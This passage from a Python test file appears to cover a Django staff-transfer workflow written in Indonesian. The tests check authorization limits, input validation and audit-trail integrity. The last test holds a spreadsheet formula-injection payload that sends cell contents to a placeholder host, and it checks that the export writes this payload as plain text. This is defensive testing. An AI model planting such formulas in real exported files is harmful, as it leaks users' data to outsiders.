        _bersih(c.post(reverse("mutasi:pengecualian", args=[u.pk]), {"alasan": "x" * 40}), 302, 404)
        _bersih(c.post(reverse("mutasi:tinjau", args=[u.pk]), {"catatan": "Sudah dicek."}), 302, 404)
        _bersih(c.post(reverse("mutasi:menteri", args=[u.pk]), {"teks": "B-1/2026"}), 302, 404)
        _bersih(c.post(reverse("mutasi:sk_terbitkan", args=[u.pk]), {}), 302, 403, 404)
        _bersih(
            c.post(
                reverse("mutasi:lampiran_tambah", args=[u.pk]),
                {"jenis": "LAINNYA", "berkas": SimpleUploadedFile("a.pdf", PDF)},
            ),
            302,
            404,
        )
    assert _jejak() == sebelum


def test_usulan_ditandai_tidak_bisa_diputuskan_dan_tidak_bisa_di_sk(w):
    d, o = w.d, w.d.org
    u = d.sampai(S.DIVERIFIKASI)
    UsulanMutasi.objects.filter(pk=u.pk).update(perlu_tinjauan=True, tinjauan_alasan="pegawai pindah jabatan")
    sebelum = _jejak()
    r = w.klien["ppk"].post(reverse("mutasi:aksi", args=[u.pk, "putuskan"]))
    assert r.status_code == 302 and any("meninjau" in m for m in _pesan(r))
    assert _jejak() == sebelum
    # decided before the record changed: the decree waits for HR's review as well
    UsulanMutasi.objects.filter(pk=u.pk).update(perlu_tinjauan=False)
    usulan_transisi(usulan=u, aksi="putuskan", oleh=o.ppk.akun)
    from pegawai.services.pegawai import pegawai_pindah_jabatan

    pegawai_pindah_jabatan(
        oleh=o.hr.akun, pegawai=o.anggota, unit=o.lain, jabatan=d.jabatan_tujuan, tmt=date.today(), keterangan="x"
    )
    w.klien["hr"].get(reverse("mutasi:detail", args=[u.pk]))  # opening the page flags it
    u.refresh_from_db()
    assert u.perlu_tinjauan
    sebelum = _jejak()
    r = w.klien["hr"].post(reverse("mutasi:sk_terbitkan", args=[u.pk]), {"tmt": TMT.isoformat()})
    assert r.status_code == 302 and any("meninjau" in m for m in _pesan(r))
    assert _jejak() == sebelum
    tinjauan = next(rows for k, _j, rows in kotak_masuk(o.hr.akun) if k == "tinjauan")
    assert u.pk in [x.pk for x in tinjauan]  # and HR is told to look at it


def test_pengusul_tidak_bisa_menarik_setelah_diputuskan(w):
    u = w.d.sampai(S.DIPUTUSKAN)
    sebelum = _jejak()
    r = w.klien["hr"].post(reverse("mutasi:aksi", args=[u.pk, "tarik"]))
    assert r.status_code == 302 and _pesan(r)
    assert _jejak() == sebelum


def test_catatan_terlalu_panjang_ditolak(w):
    u = w.d.sampai(S.DIAJUKAN)
    sebelum = _jejak()
    r = w.klien["kepala_asal"].post(reverse("mutasi:aksi", args=[u.pk, "tolak"]), {"catatan": "x" * 10_000})
    assert any("terlalu panjang" in m for m in _pesan(r))
    assert _jejak() == sebelum


@pytest.mark.parametrize(
    ("tmt", "pesan"),
    [
        ((date.today() - timedelta(days=1)).isoformat(), "tidak boleh sebelum tanggal SK"),
        ("1900-01-01", "tidak boleh sebelum tanggal SK"),
        ("9999-12-31", "paling lambat"),
        ("0001-01-01", ""),
        ("2026-13-45", ""),
    ],
)
def test_sk_dengan_tmt_aneh_ditolak_tanpa_konsep(w, tmt, pesan):
    """The decree's date is the PPK's signing day (no field for it); a TMT before it is refused."""
    u = w.d.sampai(S.DIPUTUSKAN)
    data = {"tmt": tmt, "tanggal": "2028-02-29"}  # a posted date is ignored
    sebelum = _jejak()
    r = w.klien["hr"].post(reverse("mutasi:sk_terbitkan", args=[u.pk]), data)
    assert r.status_code == 302 and _pesan(r)
    assert pesan in " ".join(_pesan(r))
    assert _jejak() == sebelum


# --- 9. Forms fed junk, edits beyond one's authority, spreadsheet formulas ------------------------------


def test_form_baru_dan_permohonan_dengan_id_raksasa(w):
    d = w.d
    sebelum = _jejak()
    r = w.klien["hr"].post(
        reverse("mutasi:baru"),
        {
            "pegawai": str(BESAR),
            "jenis": "DALAM",
            "dasar": "ROTASI",
            "tujuan_unit": str(BESAR),
            "tujuan_jabatan": "abc",
            "tmt_usulan": "2026-02-30",
            "alasan": "x",
            "manfaat_organisasi": "x",
            "manfaat_pegawai": "x",
        },
    )
    assert r.status_code == 200 and r.context["form"].errors
    c = Client(raise_request_exception=False)
    p = pegawai_di(d.org.subunit, akun=True)
    c.force_login(p.akun)
    for pilihan in ([str(BESAR)], ["x"], ["²"], [str(BESAR), str(d.tujuan.pk)]):
        r = c.post(
            reverse("mutasi:permohonan_baru"),
            {"jenis": "DALAM", "alasan": "Ingin dekat keluarga yang sedang sakit.", "unit_pilihan": pilihan},
        )
        assert r.status_code == 200 and r.context["form"].errors.get("unit_pilihan"), pilihan
    r = c.post(reverse("mutasi:permohonan_baru"), {"jenis": "MASUK", "alasan": "Jenis yang tidak ditawarkan."})
    assert r.status_code == 200 and r.context["form"].errors
    assert _jejak() == sebelum


def test_kepala_pengusul_tidak_bisa_memindahkan_tujuan_ke_luar_wewenangnya(w):
    d, o = w.d, w.d.org
    # the sending head proposes one of their people ...
    u = d.usulan(oleh=o.kepala, pegawai=pegawai_di(o.subunit, mulai=date(2018, 1, 1)))
    data = {
        "jenis": "DALAM",
        "dasar": "ROTASI",
        "tujuan_unit": w.unit_lain.pk,
        "tujuan_jabatan": d.jabatan_tujuan.pk,
        "tmt_usulan": TMT.isoformat(),
        "alasan": "Penyegaran.",
        "manfaat_organisasi": "x",
        "manfaat_pegawai": "x",
        "alasan_tanpa_kekurangan": "x",
    }
    # ... an unrelated head cannot even open it; the proposer may move the destination anywhere
    # (the person is in their unit), but a head who proposed INTO their unit may not move it away.
    assert w.klien["kepala_lain"].post(reverse("mutasi:ubah", args=[u.pk]), data).status_code == 404
    masuk = d.usulan(oleh=d.kepala_tujuan, pegawai=pegawai_di(o.lain, mulai=date(2018, 1, 1)))
    sebelum = _jejak()
    r = w.klien["kepala_tujuan"].post(reverse("mutasi:ubah", args=[masuk.pk]), data)
    assert r.status_code == 200 and any("wewenang" in m for m in _pesan(r))
    assert _jejak() == sebelum
    r = w.klien["kepala_asal"].post(reverse("mutasi:ubah", args=[u.pk]), data)
    assert r.status_code == 302
    u.refresh_from_db()
    assert u.tujuan_unit == w.unit_lain


def test_unit_tujuan_tidak_aktif_ditolak(w):
    d = w.d
    u = d.usulan(pegawai=pegawai_di(d.org.subunit, mulai=date(2018, 1, 1)))
    type(d.tujuan).objects.filter(pk=d.tujuan.pk).update(aktif=False)
    sebelum = _jejak()
    from mutasi.services import AlurError
    from mutasi.services.usulan import usulan_ubah

    with pytest.raises(AlurError, match="tidak aktif"):
        usulan_ubah(oleh=d.org.hr.akun, usulan=u, data={"alasan": "Alasan baru."})
    assert _jejak() == sebelum


def test_ekspor_tidak_menjalankan_rumus_dari_isian(w):
    from io import BytesIO

    from openpyxl import load_workbook

    d = w.d
    u = d.usulan(
        pegawai=pegawai_di(d.org.subunit, mulai=date(2018, 1, 1)),
        alasan='=HYPERLINK("http://contoh.invalid/?"&A1,"klik")',
    )
    r = w.klien["hr"].get(reverse("mutasi:ekspor"))
    ws = load_workbook(BytesIO(b"".join(r.streaming_content))).active
    sel = next(row[14] for row in ws.iter_rows(min_row=2) if row[0].value == u.nomor)
    # a text cell holding exactly what was typed (inti.lembar), never a live formula
    assert sel.data_type == "s" and sel.value == '=HYPERLINK("http://contoh.invalid/?"&A1,"klik")'
